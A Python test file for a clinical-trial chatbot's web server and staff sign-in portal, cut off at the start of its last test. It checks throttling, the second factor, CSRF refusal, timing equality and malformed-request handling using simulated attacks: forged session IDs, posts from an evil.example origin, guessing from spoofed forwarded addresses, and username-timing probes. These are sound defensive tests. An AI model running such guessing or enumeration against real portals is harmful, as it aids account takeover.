"""The web server itself (aiohttp, started for real in this process on a free
port) against a real database (SQLite, and PostgreSQL where configured):
headers, chat sessions, staff sign-in limits and second factor, the staff
list's search and filters, the handoff page, the CSV download. The Rasa
server is not needed here (tests/test_security.py and tests/test_browser.py
run everything together); where the chat would call it, it points at a
closed port and the page answers 503 as it does when Rasa is down."""
import asyncio
import csv
import html
import io
import json
import os
import re
import socket
import statistics
import subprocess
import sys
import time
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Dict, List, Tuple

import pyotp
import pytest
import sqlalchemy as sa
from aiohttp.test_utils import TestClient, TestServer

from bot.records import crypto
from bot.records.effects import FinalVerdict
from bot.staff.auth import hash_password, verify_password
from bot.records.store import ChatSession, Handoff
from tests.servers import free_port
from web.app import create_app, replay

PASSWORD = "tangerine velvet orbit 42"
ROOT = Path(__file__).resolve().parents[1]


async def start_web(bot_env, monkeypatch) -> TestClient:
    """The web server on a free port with two staff accounts, alice and bob (no language of their own)."""
    monkeypatch.setenv("TRIALBOT_RASA_URL", f"http://127.0.0.1:{free_port()}")  # nothing listens there
    monkeypatch.delenv("TRIALBOT_BEHIND_HTTPS_PROXY", raising=False)
    for name in ("alice", "bob"):
        bot_env.add_staff_user(name, hash_password(PASSWORD, check=False))
    client = TestClient(TestServer(create_app(bot_env)))
    await client.start_server()
    client.store = bot_env
    return client


@pytest.fixture
async def web(bot_env, monkeypatch):
    client = await start_web(bot_env, monkeypatch)
    yield client
    await client.close()


async def login_form_token(client) -> str:
    """The sign-in form's own token, as a browser gets it by opening the page."""
    page = await (await client.get("/staff/login")).text()
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


async def sign_in(client, username="alice", password=PASSWORD, code=None, lang="", **headers):
    """`lang`: the language chosen on the sign-in page ("" for the site's, Korean)."""
    token = await login_form_token(client)
    data = {"username": username, "password": password, "csrf": token, "lang": lang}
    if code is not None:
        data["code"] = code
    # Behind the TLS proxy the cookie is Secure: a browser sends it over https; this client talks plain http.
    headers.setdefault("Cookie", f"tb_login={token}")
    return await client.post("/staff/login", data=data, allow_redirects=False, headers=headers)


async def signed_in(client, username="alice", lang=""):
    r = await sign_in(client, username, lang=lang)
    assert r.status == 302, await r.text()
    page = await (await client.get("/staff")).text()
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def make(store, sender, name, phone, outcome="likely_eligible", kind="screening", language=None, days_ago=0,
         flags=None, answers=()):
    for cid, verdict, reason, *when in answers:  # (criterion, verdict, reason[, eligible_from])
        store.record_answer(sender, "NCT03558607", cid, f"question {cid}", f"typed {cid}", None, verdict, reason,
                            *when)
    if kind == "screening":
        store.finish_screening(sender, "NCT03558607", outcome, {a[0]: FinalVerdict(*a[1:]) for a in answers})
    ref = store.create_handoff(sender, "NCT03558607", "consent v1", name, phone, f"{sender}@example.com", "mornings",
                               "Korean", kind=kind)
    with store.session() as s:
        h = s.execute(sa.select(Handoff).where(Handoff.reference == ref)).scalar_one()
        h.created_at = datetime(2026, 11, 25, 1, 0) - timedelta(days=days_ago)
        h.screening.language = language
        if flags is not None:
            h.screening.flags_enc = crypto.encrypt(json.dumps(flags, ensure_ascii=False))
    return ref


# ---------------------------------------------------------------- headers

async def test_headers_name_no_software_and_keep_the_strict_policy(web):
    for path in ("/", "/staff/login", "/static/chat.js", "/no/such/page", "/api/history"):
        r = await web.get(path)
        assert "Server" not in r.headers, (path, r.headers.get("Server"))
        assert r.headers["Content-Security-Policy"].startswith("default-src 'self'; script-src 'self'"), path
        assert "'unsafe-inline'" not in r.headers["Content-Security-Policy"]
        assert r.headers["X-Content-Type-Options"] == "nosniff" and r.headers["X-Frame-Options"] == "DENY"
        assert "Strict-Transport-Security" not in r.headers  # plain HTTP: no HSTS
    r = await sign_in(web)
    cookie = r.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" not in cookie


async def test_behind_an_https_proxy_cookies_are_secure_with_hsts(web, monkeypatch):
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")
    r = await web.get("/", headers={"X-Forwarded-Proto": "https"})
    assert r.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    r = await sign_in(web)
    assert r.status == 302 and "Secure" in r.headers["Set-Cookie"] and "HttpOnly" in r.headers["Set-Cookie"]
    r = await web.post("/api/chat", json={"message": "hi"})
    assert r.status == 503 and "Secure" in r.headers["Set-Cookie"]


# ---------------------------------------------------------------- chat sessions (no Rasa needed)

async def test_only_ids_the_server_issued_are_accepted(web):
    forged = "attacker-chosen-id-0123456789"
    web.session.cookie_jar.update_cookies({"tb_session": forged})
    r = await web.post("/api/chat", json={"message": "hi"})
    issued = r.cookies["tb_session"].value
    assert issued != forged and len(issued) >= 30
    with web.store.session() as s:
        assert s.get(ChatSession, __import__("hashlib").sha256(issued.encode()).hexdigest()) is not None
        assert s.execute(sa.select(sa.func.count()).select_from(ChatSession)).scalar() == 1  # the id itself is not stored
    r = await web.post("/api/chat", json={"message": "again"})
    assert "tb_session" not in r.cookies  # the issued id is kept
    # A restarted web server (a new app on the same database) still knows it.
    other = TestClient(TestServer(create_app(web.store)))
    await other.start_server()
    other.session.cookie_jar.update_cookies({"tb_session": issued})
    r = await other.post("/api/chat", json={"message": "after restart"})
    assert "tb_session" not in r.cookies
    await other.close()


async def test_idle_and_ended_sessions_get_a_new_id(web):
    r = await web.post("/api/chat", json={"message": "hi"})
    first = r.cookies["tb_session"].value
    with web.store.session() as s:
        for row in s.execute(sa.select(ChatSession)).scalars():
            row.last_seen_at -= timedelta(minutes=31)  # the default idle limit is 30 minutes
    r = await web.post("/api/chat", json={"message": "hi"})
    second = r.cookies["tb_session"].value
    assert second != first
    r = await web.post("/api/end", json={})
    assert r.status == 200 and r.cookies["tb_session"].value == ""
    web.session.cookie_jar.update_cookies({"tb_session": second})  # a copy of the old cookie
    r = await web.get("/api/history")
    assert (await r.json())["messages"] == []
    r = await web.post("/api/chat", json={"message": "hi"})
    assert r.cookies["tb_session"].value not in ("", first, second)


async def test_chat_api_takes_json_only(web):
    r = await web.post("/api/end", data={"x": "1"})
    assert r.status == 415
    r = await web.post("/api/chat", data=b'{"message": "\xff\xfe"}', headers={"Content-Type": "application/json"})
    assert r.status == 400


def test_replay_masks_contact_details_but_not_answers():
    events = [
        {"event": "bot", "text": "How old are you?"},
        {"event": "user", "text": "I'm 58, creatinine 1.0 mg/dL, ALT 35 and AST 30 on 2026-03-04"},
        {"event": "slot", "name": "requested_slot", "value": "contact_name"},
        {"event": "bot", "text": "What name should the team use?"},
        {"event": "user", "text": "Choi Yuna"},
        {"event": "slot", "name": "contact_name", "value": "Choi Yuna"},
        {"event": "slot", "name": "requested_slot", "value": "contact_details"},
        {"event": "user", "text": "010-2222-3333 or yuna@example.com"},
        {"event": "slot", "name": "requested_slot", "value": "contact_time"},
        {"event": "bot", "text": "Thanks Choi Yuna, we will call +82 10-2222-3333 or write to yuna@example.com."},
        {"event": "user", "text": "call me at 02 123 4567 please, or YUNA@EXAMPLE.COM"},
        {"event": "bot", "text": "", "data": {"custom": {"lang": "ko"}}},
        {"event": "slot", "name": "contact", "value": {"name": "Jang Hyun", "phone": "+821044445555"}},
        {"event": "user", "text": "Jang Hyun here again"},
    ]
    shown, lang = replay(events, {}, [])
    text = json.dumps(shown, ensure_ascii=False)
    for secret in ("Choi", "Yuna", "2222", "3333", "example.com", "123 4567", "Jang Hyun"):
        assert secret not in text, secret
    assert shown[1]["text"] == "I'm 58, creatinine 1.0 mg/dL, ALT 35 and AST 30 on 2026-03-04"
    assert shown[3]["masked"] and lang == "ko"
    assert len(shown) == 8  # the language message is not shown


# ---------------------------------------------------------------- staff sign-in

# The wait, said in the page's language (Korean, the site's, unless English was chosen on the sign-in page):
# until when, in Seoul time to the second, and how many seconds; and, for a user name's wait and an address's
# alike, that a password with an authenticator code signs in now, one try per code.
_CODE = {"ko": " 인증 앱을 쓰는 계정이면 비밀번호와 6자리 코드로 지금 바로 로그인할 수 있어요. 코드 하나로는 한 번만"
               " 시도할 수 있으니, 맞지 않으면 앱에 새 코드가 나온 뒤 다시 입력해 주세요.",
         "en": " If your account uses an authenticator app, you can sign in now with your password and its 6-digit code."
               " Each code can be tried once: if it does not work, enter the next code your app shows."}
_WAIT = {"ko": r"로그인 실패가 너무 많았어요\. (오전|오후) (\d{1,2}):(\d\d):(\d\d) 이후에\((\d+)초 뒤\) 다시 시도해 주세요\.",
         "en": r"Too many failed sign-ins\. Please try again after (\d{1,2}):(\d\d):(\d\d) (am|pm) \(in (\d+) seconds?\)\."}
WAIT = {lang: re.compile(pattern + re.escape(_CODE[lang])) for lang, pattern in _WAIT.items()}
CODE_FIELD = '<label for="code">인증 앱에 표시된 6자리 코드 (인증 앱을 쓰는 계정만)</label>'
SEOUL = timezone(timedelta(hours=9))
WARD = {"X-Forwarded-For": "203.0.113.9"}  # behind the proxy: the one address a whole ward's computers share


def problem(page: str) -> str:
    return html.unescape(re.search(r'<p class="problem" role="alert">(.*?)</p>', page, re.S).group(1))


def said_wait(r, text: str, pattern: re.Pattern) -> int:
    """The seconds the page says, checked against Retry-After and against the time of day it names."""
    m = pattern.fullmatch(text)
    assert m, text
    groups = [g for g in m.groups() if g is not None]
    ampm = next(g for g in groups if g in ("오전", "오후", "am", "pm"))
    hour, minute, second, seconds = (int(g) for g in groups if g.isdigit())
    assert str(seconds) == r.headers["Retry-After"]
    hour = hour % 12 + (12 if ampm in ("오후", "pm") else 0)
    due = datetime.now(SEOUL) + timedelta(seconds=seconds)
    said = due.replace(hour=hour, minute=minute, second=second, microsecond=0)
    assert abs((said - due).total_seconds()) <= 2 or abs((said - due).total_seconds()) >= 86400 - 2, (said, due)
    return seconds


async def test_a_colleagues_typos_slow_that_account_down_but_never_lock_it(web):
    codes = [(await sign_in(web, "alice", "wrong password!")).status for _ in range(5)]
    assert codes == [401] * 5  # five typos cost nothing
    r = await sign_in(web, "alice")  # her right password at once: a short wait, said in Korean (the site's)
    page = await r.text()
    assert r.status == 429 and said_wait(r, problem(page), WAIT["ko"]) == 1
    assert CODE_FIELD in page
    r = await sign_in(web, "alice", lang="en")  # in English when chosen on the sign-in page
    assert r.status == 429 and said_wait(r, problem(await r.text()), WAIT["en"]) == 1
    r = await sign_in(web, "bob")  # same address, other account
    assert r.status == 302 and r.headers["Location"] == "/staff"
    await asyncio.sleep(1.1)
    r = await sign_in(web, "alice")  # after the wait: in
    assert r.status == 302 and r.headers["Location"] == "/staff"
    actions = [a.action for a in web.store.audit_trail()]
    assert actions.count("staff_login_failed") == 5 and actions.count("staff_login") == 2


async def test_an_attacker_cannot_keep_a_coordinator_out(web, monkeypatch):
    """Many addresses guessing one account: today's lockout kept alice out for 15 minutes."""
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")  # addresses from the proxy's X-Forwarded-For
    secret = pyotp.random_base32()
    web.store.set_staff_totp("alice", secret)
    for i in range(40):
        r = await sign_in(web, "alice", f"guess number {i}", **{"X-Forwarded-For": f"203.0.113.{i}"})
        assert r.status in (401, 429)
    here = {"X-Forwarded-For": "198.51.100.7"}
    r = await sign_in(web, "alice", **here)  # her password alone waits a little, never minutes
    assert r.status == 429 and 1 <= said_wait(r, problem(await r.text()), WAIT["ko"]) <= 60
    r = await sign_in(web, "alice", PASSWORD, code="000000", **{"X-Forwarded-For": "203.0.113.99"})
    assert r.status == 429 and "tb_staff" not in r.cookies  # a wrong code does not get past the wait
    r = await sign_in(web, "alice", code=pyotp.TOTP(secret).now(), **here)  # her code: in at once
    assert r.status == 302 and r.headers["Location"] == "/staff" and r.cookies["tb_staff"].value


def test_a_code_slot_is_one_try_per_step():
    from bot.staff.auth import CodeSlots

    slots, step = CodeSlots(), 1_000_000 * 30.0  # the start of a 30-second step
    assert slots.take("user:alice|addr:1", step + 1)
    assert not slots.take("user:alice|addr:1", step + 29.9)  # the same step: refused
    assert slots.take("user:bob|addr:1", step + 2) and slots.take("user:alice|addr:2", step + 3)
    assert slots.take("user:alice|addr:1", step + 30)  # the next step (the app's next code): a try again
    assert len(slots) == 1  # the last step's slots are gone
    assert not slots.take("user:bob|addr:1", step + 5)  # a clock set back gets no fresh slot


def test_the_wait_grows_and_stops_at_a_minute():
    from bot.staff.auth import Backoff

    b = Backoff(free=5, first_delay=1.0, max_delay=60.0, forget=15 * 60)
    waits = []
    now = 1000.0
    for _ in range(12):
        now += b.wait("user:alice", now)  # an attacker failing the moment each wait ends
        b.failed("user:alice", now)
        waits.append(b.wait("user:alice", now))
    assert waits == [0, 0, 0, 0, 1, 2, 4, 8, 16, 32, 60, 60]
    assert b.wait("user:bob", now) == 0  # other accounts are untouched
    assert b.wait("user:alice", now + 15 * 60 + 1) == 0  # forgotten after 15 quiet minutes
    b.succeeded("user:alice")
    assert b.wait("user:alice", now) == 0


async def flood(client, address) -> None:
    """Bad passwords under made-up names from one address until it waits (20 are free)."""
    codes = [(await sign_in(client, f"user{i}", "x" * 12, **address)).status for i in range(25)]
    assert codes == [401] * 20 + [429] * 5


def wrong_code(secret: str, skip: int = 0) -> str:
    """A 6-digit code the authenticator shows neither now nor a step either side (the `skip`-th such)."""
    totp, now = pyotp.TOTP(secret), time.time()
    shown = {totp.at(now + drift) for drift in (-30, 0, 30)}
    return [c for c in (f"{i:06d}" for i in range(skip + 4)) if c not in shown][skip]


async def early_in_a_code_step(seconds: float) -> None:
    """Into the next 30-second code step unless `seconds` are left in this one: the tries after it share a step."""
    left = 30 - time.time() % 30
    if left < seconds:
        await asyncio.sleep(left + 0.05)


async def test_one_address_guessing_many_accounts_is_slowed(web, monkeypatch):
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")  # the address comes from the proxy's X-Forwarded-For
    await flood(web, WARD)
    r = await sign_in(web, "alice", **WARD)
    page = await r.text()
    assert r.status == 429 and said_wait(r, problem(page), WAIT["ko"]) == 1 and CODE_FIELD in page
    assert (await sign_in(web, "alice", **{"X-Forwarded-For": "198.51.100.7"})).status == 302


async def test_a_flood_from_the_ward_address_does_not_keep_a_coordinator_with_her_code_out(web, monkeypatch):
    """Bad passwords from the address the ward shares: alice, there with her authenticator code, signs in at
    once; bob, who has no authenticator, waits like everyone at that address, code or not."""
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")
    secret = pyotp.random_base32()
    web.store.set_staff_totp("alice", secret)
    await flood(web, WARD)
    r = await sign_in(web, "bob", **WARD)
    page = await r.text()
    assert r.status == 429 and said_wait(r, problem(page), WAIT["ko"]) == 1 and CODE_FIELD in page
    r = await sign_in(web, "bob", code="123456", lang="en", **WARD)  # a failure: the 21st from here, 2 s
    assert r.status == 429 and said_wait(r, problem(await r.text()), WAIT["en"]) == 2 and "tb_staff" not in r.cookies
    r = await sign_in(web, "alice", code=pyotp.TOTP(secret).now(), **WARD)
    assert r.status == 302 and r.headers["Location"] == "/staff" and r.cookies["tb_staff"].value
    actions = [a.action for a in web.store.audit_trail()]
    assert actions.count("staff_login_failed") == 20 and actions.count("staff_code_failed") == 1
    assert actions.count("staff_login") == 1


async def test_codes_guessed_under_a_wait_get_one_try_per_step_per_user_name(web, monkeypatch):
    """The attacker has alice's password and floods the ward's address: from there he gets one code try for her
    per 30-second step. A second try in the step is refused even with her right code (which is then not spent),
    and answered like any failure, so the answer does not tell that the try was spent; bob's try is his own."""
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")
    secrets = {name: pyotp.random_base32() for name in ("alice", "bob")}
    for name, secret in secrets.items():
        web.store.set_staff_totp(name, secret)
    await flood(web, WARD)
    for i in range(5):  # code guesses under made-up names: each a failure, the wait doubles from 1 s to 32 s
        r = await sign_in(web, f"ghost{i}", code="000000", **WARD)
        assert r.status == 429
    assert said_wait(r, problem(await r.text()), WAIT["ko"]) == 32
    await early_in_a_code_step(8)  # the tries that follow in one step
    right = pyotp.TOTP(secrets["alice"]).now()

    async def attacker(password: str, code: str, lang: str) -> int:
        r = await sign_in(web, "alice", password, code=code, lang=lang, **WARD)
        assert r.status == 429 and "tb_staff" not in r.cookies
        return said_wait(r, problem(await r.text()), WAIT[lang])

    # Every answer alike: a failure, and the wait doubles.
    assert await attacker("not her password", wrong_code(secrets["alice"]), "ko") == 64  # her try is not spent
    assert await attacker(PASSWORD, wrong_code(secrets["alice"], 1), "en") == 128  # her try, spent on a wrong code
    assert await attacker(PASSWORD, right, "ko") == 256  # a second try in the step: refused, even her right code
    assert [a.action for a in web.store.audit_trail()][-3:] == [
        "staff_login_failed", "staff_code_failed", "staff_code_second_try"]
    r = await sign_in(web, "bob", code=pyotp.TOTP(secrets["bob"]).now(), **WARD)
    assert r.status == 302 and r.cookies["tb_staff"].value
    page = await (await sign_in(web, "alice", **{"X-Forwarded-For": "198.51.100.7"})).text()  # her office
    pending = re.search(r'name="pending" value="([^"]+)"', page).group(1)
    r = await web.post("/staff/login/code", data={"pending": pending, "code": right}, allow_redirects=False)
    assert r.status == 302 and r.cookies["tb_staff"].value


async def test_wrong_passwords_under_her_name_from_her_address_do_not_take_her_code_try(web, monkeypatch):
    """Someone at the ward's shared address knows alice's user name, not her password, and sends tries under
    it from the start of a code step: each is refused and counted, none spends her try. She signs in with her
    password and code in the same step, right after them."""
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")
    secret = pyotp.random_base32()
    web.store.set_staff_totp("alice", secret)
    await early_in_a_code_step(15)  # the attacker's tries and hers in one step
    step = time.time() // 30
    codes = [(await sign_in(web, "alice", f"guess number {i}", code=wrong_code(secret, i), **WARD)).status
             for i in range(25)]
    assert codes == [401] * 5 + [429] * 20  # five are free, then her name waits, and past 20 the address too
    r = await sign_in(web, "alice", PASSWORD, code=pyotp.TOTP(secret).now(), **WARD)
    assert time.time() // 30 == step
    assert r.status == 302 and r.headers["Location"] == "/staff" and r.cookies["tb_staff"].value
    assert [a.action for a in web.store.audit_trail()][-26:] == ["staff_login_failed"] * 25 + ["staff_login"]


async def test_sign_in_takes_as_long_for_a_name_that_does_not_exist(web, monkeypatch):
    """Guessing which user names exist by timing: the password hash runs for every name."""
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")  # one address per try: no throttling in the way
    for i in range(15):
        web.store.add_staff_user(f"nurse{i}", hash_password(PASSWORD, check=False))
    stored = web.store.staff_password_hash("alice")
    hash_times = []
    for _ in range(5):
        t = time.perf_counter()
        verify_password("wrong password!", stored)
        hash_times.append(time.perf_counter() - t)
    token = await login_form_token(web)

    async def timed(name: str, i: int) -> float:
        t = time.perf_counter()
        r = await web.post("/staff/login", data={"username": name, "password": "wrong password!", "csrf": token},
                           headers={"X-Forwarded-For": f"198.18.{i}.{len(name)}", "Cookie": f"tb_login={token}"},
                           allow_redirects=False)
        took = time.perf_counter() - t
        assert r.status == 401 and problem(await r.text()) == "사용자 이름과 비밀번호가 맞지 않아요."
        return took

    known, unknown = [], []
    for i in range(15):
        known.append(await timed(f"nurse{i}", i))
        unknown.append(await timed(f"ghost.{i}", i))
    gap = abs(statistics.median(known) - statistics.median(unknown))
    assert gap < 0.5 * statistics.median(hash_times), (gap, statistics.median(hash_times))


async def test_under_a_wait_every_try_with_a_code_takes_as_long(web, monkeypatch):
    """Under the ward address's wait, a password with a code is checked with the same work whatever it turns
    out to be: a wrong password for a real name, her password with a wrong code (her try in the step), her
    password with her right code again (a second try, refused), or a made-up name. All answer alike, in the
    same time."""
    monkeypatch.setenv("TRIALBOT_BEHIND_HTTPS_PROXY", "1")
    secrets = {f"nurse{i}": pyotp.random_base32() for i in range(15)}
    for name, secret in secrets.items():
        web.store.add_staff_user(name, hash_password(PASSWORD, check=False))
        web.store.set_staff_totp(name, secret)
    stored = web.store.staff_password_hash("alice")
    hash_times = []
    for _ in range(5):
        t = time.perf_counter()
        verify_password("wrong password!", stored)
        hash_times.append(time.perf_counter() - t)
    await flood(web, WARD)
    token = await login_form_token(web)

    async def timed(name: str, password: str, code: str) -> float:
        t = time.perf_counter()
        r = await web.post("/staff/login", data={"username": name, "password": password, "code": code,
                                                 "csrf": token},
                           headers={**WARD, "Cookie": f"tb_login={token}"}, allow_redirects=False)
        took = time.perf_counter() - t
        assert r.status == 429 and WAIT["ko"].fullmatch(problem(await r.text()))
        return took

    times: Dict[str, List[float]] = {"wrong password": [], "wrong code": [], "second try": [], "no such name": []}
    for i, (name, secret) in enumerate(secrets.items()):
        await early_in_a_code_step(3)  # her two tries in one step
        times["wrong password"].append(await timed(name, "wrong password!", wrong_code(secret)))
        times["wrong code"].append(await timed(name, PASSWORD, wrong_code(secret)))
        times["second try"].append(await timed(name, PASSWORD, pyotp.TOTP(secret).now()))
        times["no such name"].append(await timed(f"ghost.{i}", PASSWORD, "000000"))
    actions = [a.action for a in web.store.audit_trail()][-60:]  # after the flood
    assert actions == ["staff_login_failed", "staff_code_failed", "staff_code_second_try",
                       "staff_login_failed"] * 15  # every try was checked and counted
    medians = {kind: statistics.median(took) for kind, took in times.items()}
    gap = max(medians.values()) - min(medians.values())
    assert gap < 0.5 * statistics.median(hash_times), (medians, statistics.median(hash_times))


FORM_REFUSED = "로그인 양식이 만료되었거나 다른 사이트에서 보낸 것이에요. 로그인 화면을 다시 열어서 로그인해 주세요."


async def test_a_cross_site_sign_in_is_refused_and_sets_no_cookie(web):
    """A page elsewhere posting the form (login CSRF: the victim signed in as the attacker, or the attacker's
    guesses sent from victims' browsers)."""
    attacker = TestClient(TestServer(create_app(web.store)))
    await attacker.start_server()
    foreign = await login_form_token(attacker)  # a token of the attacker's own visit
    await attacker.close()
    evil = {"Origin": "https://evil.example"}
    for headers, extra in ((evil, {}), ({}, {}), ({}, {"csrf": foreign}), (evil, {"csrf": foreign}),
                           ({"Sec-Fetch-Site": "cross-site"}, {"csrf": foreign}),
                           ({"Origin": "null", "Sec-Fetch-Site": "cross-site"}, {})):
        web.session.cookie_jar.clear()
        r = await web.post("/staff/login", data={"username": "alice", "password": PASSWORD, **extra},
                           headers=headers, allow_redirects=False)
        assert r.status == 403 and "tb_staff" not in r.cookies, (headers, extra)
        assert problem(await r.text()) == FORM_REFUSED
    r = await web.post("/staff/login", data={"username": "alice", "password": PASSWORD, "lang": "en"},
                       allow_redirects=False)  # in English when English was chosen on the page
    assert r.status == 403 and problem(await r.text()) == (
        "This sign-in form has expired or was sent from another site. Please open the sign-in page again and sign "
        "in there.")
    # The right token from this browser, but posted by another site's page.
    token = await login_form_token(web)
    r = await web.post("/staff/login", data={"username": "alice", "password": PASSWORD, "csrf": token},
                       headers=evil, allow_redirects=False)
    assert r.status == 403 and "tb_staff" not in r.cookies
    assert "staff_login" not in [a.action for a in web.store.audit_trail()]
    r = await web.post("/staff/login", data={"username": "alice", "password": PASSWORD, "csrf": token},
                       headers={"Origin": str(web.make_url("")).rstrip("/")}, allow_redirects=False)
    assert r.status == 302 and r.cookies["tb_staff"].value  # the page itself, with its Origin
    # What Chromium sends for the page itself under Referrer-Policy: no-referrer: Origin null, same-origin.
    token = await login_form_token(web)
    r = await web.post("/staff/login", data={"username": "alice", "password": PASSWORD, "csrf": token},
                       headers={"Origin": "null", "Sec-Fetch-Site": "same-origin"}, allow_redirects=False)
    assert r.status == 302 and r.cookies["tb_staff"].value


BAD_REQUEST = "Bad request.\n잘못된 요청이에요."


def assert_safe_headers(headers) -> None:
    assert "Server" not in headers, headers.get("Server")
    assert headers["Content-Security-Policy"].startswith("default-src 'self'; script-src 'self'")
    assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"


UNREADABLE = '<p class="problem" role="alert" id="error">이 양식을 읽을 수 없었어요. 화면을 다시 열고 다시 시도해 주세요.</p>'


async def test_a_form_that_is_not_utf8_gets_a_clean_400(web):
    """Under /staff, the error page in the page's language (Korean, the site's), not a 500."""
    token = await login_form_token(web)
    for path in ("/staff/login", "/staff/login/code"):
        r = await web.post(path, data=b"username=alice&password=\xff\xfe\xfd&pending=x&code=1&csrf=" + token.encode(),
                           headers={"Content-Type": "application/x-www-form-urlencoded"}, allow_redirects=False)
        assert r.status == 400 and UNREADABLE in await r.text(), path
        assert_safe_headers(r.headers)
    await signed_in(web)
    r = await web.post("/staff/logout", data=b"csrf=\xff", headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert r.status == 400 and UNREADABLE in await r.text()


def _raw(port: int, request: bytes) -> Tuple[str, dict, bytes]:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(request)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {k: v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    return lines[0], headers, body


def test_low_level_errors_get_a_clean_400_without_the_server_name(bot_env, tmp_path):
    """The real web server (python -m web) answering what its HTTP parser refuses, before any handler runs."""
    port = free_port()
    env = dict(os.environ, TRIALBOT_WEB_PORT=str(port), TRIALBOT_RASA_URL=f"http://127.0.0.1:{free_port()}",
               PYTHONPATH=str(ROOT))
    with open(tmp_path / "web.log", "w") as log:
        server = subprocess.Popen([sys.executable, "-m", "web"], cwd=ROOT, env=env, stdout=log, stderr=log)
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                time.sleep(0.2)
        for request in (b"GARBAGE\r\n\r\n",
                        b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 20000 + b"\r\n\r\n",
                        b"GET /" + b"a" * 20000 + b" HTTP/1.1\r\nHost: x\r\n\r\n"):
            status, headers, body = _raw(port, request)
            assert re.fullmatch(r"HTTP/1\.[01] 400 Bad Request", status) and body.decode() == BAD_REQUEST, (status, body)
            assert not any(k.lower() == "server" for k in headers), headers
            assert_safe_headers(headers)
        status, headers, _ = _raw(port, b"GET /static/style.css HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        assert status == "HTTP/1.1 200 OK" and not any(k.lower() == "server" for k in headers)
    finally:
        server.terminate()
        server.wait(timeout=30)


async def test_second_factor_is_asked_when_turned_on(web):
    secret = pyotp.random_base32()
    web.store.set_staff_totp("alice", secret)
    with web.store.engine.connect() as conn:
        assert secret not in str(conn.execute(sa.text("SELECT totp_secret_enc FROM staff_users")).all())
    r = await sign_in(web, lang="en")
    page = await r.text()
    assert r.status == 200 and 'name="code"' in page and "tb_staff" not in r.cookies
    pending = re.search(r'name="pending" value="([^"]+)"', page).group(1)
    bad = str((int(pyotp.TOTP(secret).now()) + 1) % 1000000).zfill(6)
    r = await web.post("/staff/login/code", data={"pending": pending, "code": bad, "lang": "en"},
                       allow_redirects=False)
    assert r.status == 401 and "That code is not right. Enter the 6-digit code your authenticator app shows now." \
        in await r.text()
    code = pyotp.TOTP(secret).now()
    r = await web.post("/staff/login/code", data={"pending": pending, "code": code}, allow_redirects=False)
    assert r.status == 302 and r.cookies["tb_staff"].value
    # The same code cannot be used twice.
    page = await (await sign_in(web)).text()
    pending = re.search(r'name="pending" value="([^"]+)"', page).group(1)
    r = await web.post("/staff/login/code", data={"pending": pending, "code": code}, allow_redirects=False)
    assert r.status == 401
    # Without a password first there is nothing to complete.
    r = await web.post("/staff/login/code", data={"pending": "made-up", "code": code}, allow_redirects=False)
    assert r.status == 401 and "tb_staff" not in r.cookies


async def test_three_wrong_codes_ask_for_the_password_again(web):
    """Code guessing after a stolen password: the right password gives three tries, then the account's delay."""
    secret = pyotp.random_base32()
    web.store.set_staff_totp("alice", secret)
    page = await (await sign_in(web)).text()
    pending = re.search(r'name="pending" value="([^"]+)"', page).group(1)
    right = pyotp.TOTP(secret).now()
    wrong = [str((int(right) + n) % 1000000).zfill(6) for n in (7, 8, 9)]
    codes = [(await web.post("/staff/login/code", data={"pending": pending, "code": c}, allow_redirects=False))
             for c in wrong]
    assert [r.status for r in codes] == [401, 401, 401]
    assert problem(await codes[2].text()) == "코드가 세 번 맞지 않았어요. 다시 로그인해 주세요."
    assert 'name="password"' in await codes[2].text() and 'name="pending"' not in await codes[2].text()
    r = await web.post("/staff/login/code", data={"pending": pending, "code": right, "lang": "en"},
                       allow_redirects=False)
    assert r.status == 401 and "tb_staff" not in r.cookies
    assert problem(await r.text()) == "The sign-in took too long. Please enter your user name and password again."


# ---------------------------------------------------------------- staff list and handoff page

async def test_search_filter_and_sort_the_handoffs(web):
    a = make(web.store, "s-a", "Kim Minji", "+821012345678", language="ko", days_ago=3)
    b = make(web.store, "s-b", "Park Jisoo", "+821099998888", outcome="needs_review", language="en", days_ago=1)
    c = make(web.store, "s-c", "Lee Callback", "+821055556666", kind="callback", language="ko", days_ago=5)
    web.store.set_status(c, "contacted", "", "test")
    await signed_in(web, lang="en")

    async def refs(**query):
        page = await (await web.get("/staff", params=query)).text()
        return re.findall(r'href="/staff/handoffs/([A-Z0-9-]+)"', page)

    assert await refs(q="minji") == [a]
    assert await refs(q="010-1234-5678") == [a]
    assert await refs(q="99998888") == [b]
    assert await refs(q=b.lower()) == [b]
    assert await refs(q="nobody") == []
    assert await refs(outcome="callback") == [c]
    assert await refs(outcome="needs_review") == [b]
    assert sorted(await refs(language="ko")) == sorted([a, c])
    assert await refs(status="contacted") == [c]
    assert await refs(**{"from": "2026-11-23", "to": "2026-11-24"}) == [b]  # Seoul dates
    assert await refs(sort="waiting") == [a, b, c]  # new ones, oldest first; then the contacted one
    assert await refs(sort="newest") == [b, a, c]
    page = await (await web.get("/staff")).text()
    assert "<td>callback request</td>" in page and "<td>Sun 22 Nov 2026, 10:00 am</td>" in page  # 01:00 UTC, Seoul
    assert "Times are in Korea Standard Time." in page


async def test_the_handoff_page_shows_what_to_check_first(web):
